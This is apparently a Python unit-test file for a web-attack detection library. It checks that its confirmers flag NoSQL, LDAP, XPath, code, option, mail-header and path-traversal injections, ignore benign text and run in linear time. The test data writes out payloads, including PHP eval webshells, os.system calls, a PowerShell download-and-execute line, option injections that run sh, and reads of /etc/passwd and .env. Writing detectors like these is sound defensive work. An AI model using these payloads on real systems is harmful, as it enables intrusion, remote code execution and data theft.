"""Confirmers of attacks on databases, directories, documents, mails, shells and paths: constructs they take, text they leave, linear work."""

from __future__ import annotations

import time
from collections.abc import Callable
from urllib.parse import quote

import pytest
from tests.unit.detections.detection_cases import PREFILTER, facts_of, findings, in_query, request

from eastwall.detections.command_injection import code, options, shell
from eastwall.detections.ldap_injection import filter as ldap
from eastwall.detections.mail_injection import lines
from eastwall.detections.nosql_injection import script, structure
from eastwall.detections.path_traversal.path import traversal
from eastwall.detections.sql_injection import grammar
from eastwall.detections.xpath_injection import expression

SCRIPTS = r"""
'; return 1; var b='
'; while(1){}; var x='
") || ("a"=="a
' && this.role == 'admin
x'}); db.users.find({a:'
0; return true
5; var a=new Date(); do { b=new Date() } while (b-a<5000)
null, $where: 'sleep(100)'
{"$gt": ""}
{'$regex': '.*'}
', "$or": [{"a":1}], 'x':'
db.dropDatabase()
"; db.getCollectionNames(); var a="
'}) RETURN x UNION MATCH (y) RETURN y //
MATCH (a:User) DETACH DELETE a
""".strip().splitlines()
FILTERS = r"""
*)(uid=*
a)(cn=*))(|(sn=*
admin)(&)
admin)(|(&)
x)(!(mail=*))
*(|(mail=*))
(&(objectClass=user)(cn=a*))
(|(uid=a)(uid=b))
cn:dn:2.4.6.8.10:=x
a)(memberOf=CN=x,DC=y)
*))
""".strip().splitlines()
EXPRESSIONS = r"""
' or count(/*)>0 or '1'='2
'] | //user[name='
x'][1]/../password | a['
' or name(/*)='a
' or self::user or '
3 or last()=2
3] | //user[2
//user[position()=2]/password
/*[1]/*[2]/text()
string-length(//user[1]/name)
doc('http://a.example/x')
' and not(true()) and '
' or @id='1
""".strip().splitlines()
CODE = r"""
<?php eval($_POST['x']);
<?= system('ls') ?>
assert(base64_decode('eA=='))
phpinfo();
';phpinfo();'
${@system('id')}
$_GET[0]($_GET[1])
__import__("subprocess").getoutput("id")
';import os;os.system('id');'
subprocess.Popen(["id"])
exec("import socket")
require("fs").readFileSync("x")
process.binding('spawn_sync')
x['constructor']['constructor']('return this')()
Runtime.getRuntime().exec(x)
new ProcessBuilder("sh","-c","id").start()
IO.popen("id")
%x(ls)
CreateObject("WScript.Shell").Run
Ex"&"ecute(request("x"))
IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')
Process.Start("cmd.exe")
""".strip().splitlines()
NOT_CODE = r"""
The eval() function is dangerous
require('lodash').map(x)
import os from 'node:os'
new Date().getTime()
const runtime = getRuntime();
echo is a word; print is another
a subprocess runs the task
<?xml version="1.0"?>
class Foo: constructor
""".strip().splitlines()
OPTIONS = r"""
--output=/var/www/x.php
-oProxyCommand=id
--use-compress-program=sh
--checkpoint-action=exec=sh
--upload-pack=id
-exec id ;
-o /tmp/x
ext::sh -c id
""".strip().splitlines()
NOT_OPTIONS = ["-1", "--", "--verbose", "-o", "-exec", "--output", "use --output=/tmp/x", "-5 to -1", "-oak", "--config=x.yml"]
LEFT = r"""
return true; we said
$5 or $10
a: $where is the shop
(x)(y)
(cn = common name)
Smith (Ann)
*) see (below
count(items) or name
//cdn.example/a.js
it's // a comment
f(a)(b = c)
if (a == 1 || b == 2) { return true; }
""".strip().splitlines()


@pytest.mark.parametrize("text", SCRIPTS)
def test_scripts(text: str) -> None:
    assert script.injection("query.q", text)


@pytest.mark.parametrize("text", FILTERS)
def test_filters(text: str) -> None:
    assert ldap.injection(text + "\0" if text == "*))" else text)


@pytest.mark.parametrize("text", EXPRESSIONS)
def test_expressions(text: str) -> None:
    assert expression.injection(text)


@pytest.mark.parametrize("text", CODE)
def test_code(text: str) -> None:
    assert code.runs(text)


@pytest.mark.parametrize("text", NOT_CODE)
def test_text_about_code(text: str) -> None:
    assert code.runs(text) is None


@pytest.mark.parametrize("text", OPTIONS)
def test_options(text: str) -> None:
    assert options.takes_effect(text)


@pytest.mark.parametrize("text", NOT_OPTIONS)
def test_harmless_options(text: str) -> None:
    assert options.takes_effect(text) is None


@pytest.mark.parametrize("text", LEFT)
def test_left_alone(text: str) -> None:
    assert script.injection("body.note", text) is None
    assert ldap.injection(text) is None
    assert expression.injection(text) is None
    assert lines.injection("query.q", text) is None


@pytest.mark.parametrize(
    ("place", "key", "confidence"),
    [
        ("query.{user[$ne]}", "user[$ne]", "high"),
        ("body.{password[$regex]}", "password[$regex]", "high"),
        ("body.user.{$gt}", "$gt", "high"),
        ("body.items[3].{$in}", "$in", "medium"),
        ("body.where.age.{$gt}", "$gt", "low"),
        ("query.{filter[price][$lt]}", "filter[price][$lt]", "low"),
        ("body.filter.{$where}", "$where", "high"),
        ("body.{$lookup}", "$lookup", "high"),
        ("body.a.{$inc}", "$inc", "medium"),
    ],
)
def test_operators_weigh_by_their_field(place: str, key: str, confidence: str) -> None:
    judged = structure.operator(place, key)
    assert judged is not None
    assert judged[0] == confidence


@pytest.mark.parametrize(
    "key", ["$ref", "$schema", "$id", "$filter", "$top", "$set", "$type", "price", "a[ne]", "a[0]", "$", "$5"]
)
def test_other_keys(key: str) -> None:
    assert structure.operator(f"body.{{{key}}}", key) is None


@pytest.mark.parametrize(
    ("place", "text"),
    [
        ("query.q", "a@x.example\r\nBcc: b@y.example"),
        ("body.subject", "Hello\nCc: anybody"),
        ("body.name", "Ann\r\nTo: b@y.example"),
        ("query.q", "x\r\nMIME-Version: 1.0\r\nContent-Type: text/html"),
        ("query.q", "x\r\nRCPT TO:<b@y.example>"),
        ("query.q", "x\r\n.\r\nQUIT"),
        ("query.q", "INBOX\r\nA1 FETCH 1 BODY[]"),
        ("query.q", "1\r\nRETR 1\r\nQUIT"),
        ("body.note", "b@y.example\r\nBcc: c@y.example"),
    ],
)
def test_mails(place: str, text: str) -> None:
    assert lines.injection(place, text)


@pytest.mark.parametrize(
    "text",
    [
        "Hi,\nTo: all of you\nSubject: lunch",
        "Name: Ann\nSubject: Maths",
        "Agenda\nSubject: Budget\nDate: Friday",
        "a, b\nc, d",
        "1 LIST\n2 SELECT one",
        "please\nquit\ndata",
        "Dear Bob.\nFrom: here to there",
    ],
)
def test_letters(text: str) -> None:
    assert lines.injection("query.q", text) is None
    assert lines.injection("body.message", text) is None


@pytest.mark.parametrize(
    ("text", "place", "found"),
    [
        ("../x.txt", "query.file", True),
        ("../x.txt", "query.page_path", True),
        ("../x.txt", "body.template", True),
        ("../x.txt", "query.q", False),
        ("../x.txt", "body.path", False),
        ("../images/a.png", "body.href", False),
        ("../../x.txt", "query.q", True),
        ("../x", "body.upload.filename", True),
        ("/.env", "path", True),
        ("/repos/a/b/contents/.env", "path", False),
        ("/app/.env.example", "path", False),
        ("/etc/nginx/nginx.conf", "query.q", True),
        ("/etc/nginx/nginx.conf", "body.mountPath", False),
        ("src/main/webapp/WEB-INF/web.xml", "body.added[0]", False),
        ("WEB-INF/web.xml", "query.q", True),
        ("%SYSTEMROOT%\\win.ini", "query.q", True),
        ("\\\\?\\C:\\Windows\\win.ini", "query.q", True),
        ("..\u2215..\u2215etc\u2215passwd", "query.q", True),
        ("..\x01/..\x01/etc/passwd", "query.q", True),
        ("C:\\Users\\ann\\report.docx", "body.file", False),
        ("report..final.pdf", "query.file", False),
    ],
)
def test_paths_weigh_by_their_place(text: str, place: str, found: bool) -> None:
    assert (traversal(text, place) is not None) == found


def test_sql_and_xpath_do_not_double_on_what_sql_reads() -> None:
    ids = {finding.id for finding in findings(in_query("' or '1'='1"))}
    assert ids == {"sql-injection"}


@pytest.mark.parametrize("text", [*SCRIPTS, *FILTERS[:-1], *EXPRESSIONS, *CODE, *OPTIONS])
def test_the_prefilter_hits_what_a_confirmer_takes(text: str) -> None:
    """Encoded, as a client sends it; and with the fewest characters encoded, which the prefilter reads as raw bytes."""
    for url in (quote(text, safe=""), quote(text, safe="'()*!;:@$,/?[]{}|\"<>^`~\\=")):
        if "&" in url or "#" in url:
            continue
        suspects = facts_of(request("GET", "/search?q=" + url)).suspects
        assert any(families & {"sql", "command", "nosql", "ldap", "xpath"} for _, families in suspects), url


def test_scratch_is_left_as_it_was() -> None:
    assert PREFILTER.dropped == 0


CONFIRMERS: dict[str, Callable[[str], object]] = {
    "sql": grammar.injection,
    "shell": shell.injection,
    "code": code.runs,
    "options": options.takes_effect,
    "path": traversal,
    "nosql": lambda text: script.injection("query.q", text),
    "ldap": ldap.injection,
    "xpath": expression.injection,
    "mail": lambda text: lines.injection("query.q", text),
}
ADVERSARIAL = [
    "'", '"', "(", ")", ")(", "(a=", "*)(", "((", "&&", "||", "' or ", "//*[", "count(", "' or count(", "\r\n", "\r\nTo:", "\nA1 ", ";", "; ", ";a=1", "$a", "{a,", "../", "..", "..\\", "/./", "-- ", "/*", "a.", "a.a",
    "this.a", "'; return ", "db.a", "new Date", "<?php ", "eval(", "\"&\"", "a ", " ", "\\", "`", "$(", "for i in ", "while ", "1e", "0x", ":1.2.3", "@", "a@", "%", "::", "select ", "union ", "case when ",
    "json_", "[", "]", "a'a", "'a' ", "cat ", "with a as (", "copy ", "execute(", "on error resume next ", "constructor.", "\t", "\x00", "\u2215", "É",
]  # fmt: skip


@pytest.mark.parametrize("name", CONFIRMERS)
def test_work_is_linear(name: str) -> None:
    """Four times the text takes at most ten times as long: quadratic work takes sixteen. Sizes stay below the limits of the confirmers."""
    confirm = CONFIRMERS[name]
    for unit in ADVERSARIAL:
        for head in ("", "1", "' "):
            text = head + unit * (4_000 // len(unit))
            times = []
            for part in (text[:1_000], text):
                best = 1.0
                for _ in range(3):
                    start = time.thread_time()
                    confirm(part)
                    best = min(best, time.thread_time() - start)
                times.append(best)
            assert times[1] < max(0.004, 10 * times[0]), (unit, head, times)
